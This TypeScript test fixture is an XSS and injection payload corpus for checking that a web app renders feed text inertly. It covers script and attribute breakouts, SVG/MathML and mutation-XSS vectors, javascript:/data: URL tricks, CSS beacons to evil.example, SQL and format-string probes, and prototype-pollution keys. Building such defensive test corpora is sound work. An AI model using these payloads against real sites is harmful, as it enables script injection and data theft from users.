// The injection corpus: strings a hostile or careless publisher could put in a feed. Every one
// that would run script calls the page hook `__rutaPwn(…)` (or alert/confirm/prompt, or sets
// `window.__rutaFlag`), which the tests install and watch. None may run, none may add an
// element or attribute, and each must show as the very text it is.

/** The hook a payload calls when it runs. */
export const HOOK = '__rutaPwn';

const run = (tag: string) => `${HOOK}('${tag}')`;

/** Script tags and breakouts of the contexts text might be put into. */
const scripts = [
  `<script>${run('script')}</script>`,
  `<SCRIPT>${run('SCRIPT')}</SCRIPT>`,
  `<script src="data:text/javascript,${run('script-src')}"></script>`,
  `<script>alert(1)</script>`,
  `<scr<script>ipt>${run('nested')}</scr</script>ipt>`,
  `</script><script>${run('script-breakout')}</script>`,
  `</style><script>${run('style-breakout')}</script>`,
  `</style><img src=x onerror=${run('style-img')}>`,
  `</textarea><script>${run('textarea')}</script>`,
  `</title><script>${run('title')}</script>`,
  `--><script>${run('comment')}</script><!--`,
  `]]><script>${run('cdata')}</script>`,
  `"><script>${run('attr-dq')}</script>`,
  `'><script>${run('attr-sq')}</script>`,
  `\`;${run('template-literal')};\``,
  `\${${run('template-expr')}}`,
  `{{constructor.constructor('${run('angular')}')()}}`,
  `<script type="module">${run('module')}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${run('noscript')}>">`,
  `<template><script>${run('template')}</script></template>`,
];

/** Event-handler attributes on ordinary elements. */
const handlers = [
  `<img src=x onerror=${run('img')}>`,
  `<img src="x" onerror="${run('img-dq')}">`,
  `<IMG SRC=x OnErRoR=${run('img-case')}>`,
  `<img src=x onerror=&#x5f;&#x5f;rutaPwn('img-entity')>`,
  `<img/src=x/onerror=${run('img-slash')}>`,
  `<img src=x onerror\n=${run('img-newline')}>`,
  `<body onload=${run('body')}>`,
  `<div onmouseover="${run('div')}">hover</div>`,
  `<input autofocus onfocus=${run('input')}>`,
  `<select autofocus onfocus=${run('select')}></select>`,
  `<textarea autofocus onfocus=${run('textarea-focus')}></textarea>`,
  `<details open ontoggle=${run('details')}>`,
  `<video><source onerror=${run('video')}></video>`,
  `<audio src=x onerror=${run('audio')}>`,
  `<iframe onload=${run('iframe-onload')}></iframe>`,
  `<marquee onstart=${run('marquee')}>x</marquee>`,
  `<object data=x onerror=${run('object')}></object>`,
  `<style onload=${run('style-onload')}></style>`,
  `<link rel=stylesheet href=x onerror=${run('link')}>`,
  `<form><button formaction=javascript:${run('formaction')}>x</button></form>`,
  `<a href=# onclick=${run('onclick')}>click</a>`,
  `<p onpointerenter=${run('pointer')} style="position:fixed;inset:0">x</p>`,
  `" onmouseover="${run('attr-escape')}" x="`,
  `' onfocus='${run('attr-escape-sq')}' autofocus x='`,
  `x" autofocus onfocus="${run('attr-autofocus')}`,
  `<img src=x:alert(1) onerror=eval(src)>`,
  `<image src=x onerror=${run('image')}>`,
  `<isindex type=image src=1 onerror=${run('isindex')}>`,
];

/** SVG and MathML vectors. */
const svgMath = [
  `<svg onload=${run('svg')}>`,
  `<svg/onload=${run('svg-slash')}>`,
  `<svg><script>${run('svg-script')}</script></svg>`,
  `<svg><script href="data:,${run('svg-script-href')}"/></svg>`,
  `<svg><a xlink:href="javascript:${run('svg-a')}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${run('animate')} attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to=${run('set')}>`,
  `<svg><foreignObject><img src=x onerror=${run('foreign')}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${run('use')}'/></svg>#x"/></svg>`,
  `<svg><style>@import url(javascript:${run('svg-style')})</style></svg>`,
  `</text><script>${run('svg-text-breakout')}</script>`,
  `</tspan></text><g onload=${run('svg-g')}>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run('math-mglyph')}>`,
  `<math href="javascript:${run('math-href')}">click</math>`,
  `<math><maction actiontype="statusline#" xlink:href="javascript:${run('maction')}">x</maction></math>`,
  `<math><mi xlink:href="data:x,<script>${run('math-mi')}</script>">x</mi></math>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run('mxss')} src>">`,
  `<svg><desc><![CDATA[</desc><script>${run('cdata-desc')}</script>]]></svg>`,
];

/** URLs with schemes that must never become links: case, whitespace, control and entity tricks. */
const urls = [
  `javascript:${run('js')}`,
  `JavaScript:${run('js-case')}`,
  `JAVASCRIPT:alert(1)`,
  ` javascript:${run('js-space')}`,
  `\tjavascript:${run('js-tab')}`,
  `java\tscript:${run('js-inner-tab')}`,
  `java\nscript:${run('js-inner-newline')}`,
  `java\rscript:${run('js-inner-cr')}`,
  `\u0000javascript:${run('js-nul')}`,
  `\u0001javascript:${run('js-soh')}`,
  `java\u0000script:${run('js-inner-nul')}`,
  `\u001fjavascript:${run('js-us')}`,
  `javascript\u003a${run('js-escaped-colon')}`,
  `&#106;avascript:${run('js-entity')}`,
  `&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${run('js-hex-entities')}`,
  `javascript&colon;${run('js-colon-entity')}`,
  `jav&#x09;ascript:${run('js-tab-entity')}`,
  `%6A%61%76%61%73%63%72%69%70%74:${run('js-percent')}`,
  `javascript://%0A${run('js-comment-newline')}`,
  `javascript://https://example.org/%0a${run('js-fake-https')}`,
  `data:text/html,<script>${run('data-html')}</script>`,
  `data:text/html;base64,PHNjcmlwdD5fX3J1dGFQd24oJ2RhdGE2NCcpPC9zY3JpcHQ+`,
  `DATA:text/html,<svg onload=${run('data-case')}>`,
  ` data:image/svg+xml,<svg onload=${run('data-svg')}>`,
  `vbscript:msgbox("x")`,
  `VBScript:Execute("x")`,
  ` vbscript:${run('vbs-space')}`,
  `file:///etc/passwd`,
  `blob:https://example.org/uuid`,
  `//evil.example/x.js`,
  `\\\\evil.example\\share`,
  `https://example.org/" onmouseover="${run('url-attr')}`,
  `https://example.org/<script>${run('url-script')}</script>`,
  `https://example.org/?q=<img src=x onerror=${run('url-query')}>`,
  `https:javascript:${run('https-colon')}`,
  `mailto:x@example.org?body=<script>${run('mailto')}</script>`,
  `<a href="javascript:${run('a-js')}">enlace</a>`,
  `<a href=" &#14;javascript:${run('a-js-ctrl')}">enlace</a>`,
  `<a href="data:text/html,<script>${run('a-data')}</script>">enlace</a>`,
  `<iframe src="javascript:${run('iframe-js')}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run('srcdoc')}</script>"></iframe>`,
  `<embed src="javascript:${run('embed')}">`,
  `<object data="data:text/html,<script>${run('object-data')}</script>"></object>`,
  `<base href="javascript:${run('base')}//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run('meta')}">`,
];

/** CSS: url(), expression(), imports and breakouts. */
const css = [
  `<div style="background:url(javascript:${run('css-url')})">x</div>`,
  `<div style="width:expression(${run('expression')})">x</div>`,
  `<div style="background-image:url('data:image/svg+xml,<svg onload=${run('css-data')}>')">`,
  `x;background:url(https://evil.example/beacon)`,
  `red;}</style><style>*{background:url(//evil.example/x)}`,
  `</style><style>@import 'https://evil.example/x.css';</style>`,
  `expression(${run('bare-expression')})`,
  `url(javascript:${run('bare-url')})`,
  `-moz-binding:url(https://evil.example/xbl.xml#x)`,
  `behavior:url(#default#time2)`,
  `<style>@keyframes x{}</style><div style="animation-name:x" onanimationstart=${run('animation')}>`,
  `*/</style><script>${run('css-comment')}</script>/*`,
];

/** Keys and names with meaning to JavaScript objects. */
const keys = [
  '__proto__',
  'constructor',
  'prototype',
  '__proto__.polluted',
  'constructor.prototype.polluted',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '__defineGetter__',
  '{"__proto__":{"polluted":true}}',
];

/** Text that breaks naive escaping, parsing or layout. */
const text = [
  `&lt;script&gt;${run('pre-escaped')}&lt;/script&gt;`,
  `&amp;lt;b&amp;gt;`,
  `<!-- comment -->`,
  `<![CDATA[x]]>`,
  `<b>negrita</b> <i>cursiva</i>`,
  `<h1>Título falso</h1>`,
  `<!DOCTYPE html><html><body>`,
  `<?xml version="1.0"?><x/>`,
  `\u202e${run('rtl-override')}`,
  `\u2028${run('line-sep')}\u2029`,
  `\ufeffBOM en el texto`,
  `ZWJ\u200d\u200b\u2060 ocultos`,
  `👩🏽‍💻 emoji y 𝒳 fuera del BMP`,
  `%s%s%s%n %x`,
  `' OR 1=1 --`,
  `\\u003cscript\\u003e${run('escaped-unicode')}\\u003c/script\\u003e`,
  `＜script＞${run('fullwidth')}＜/script＞`,
  `<slot name="x"></slot><template shadowrootmode="open"><script>${run('dsd')}</script></template>`,
  `<custom-el onclick=${run('custom')}></custom-el>`,
  `<commitment-progress src="https://evil.example/feed.json"></commitment-progress>`,
];

/** The whole corpus, without duplicates. */
export const PAYLOADS: readonly string[] = [...new Set([...scripts, ...handlers, ...svgMath, ...urls, ...css, ...keys, ...text])];

/** Keys that touch an object's prototype chain when code uses objects as maps. */
export const PROTO_KEYS = ['__proto__', 'constructor', 'prototype'] as const;

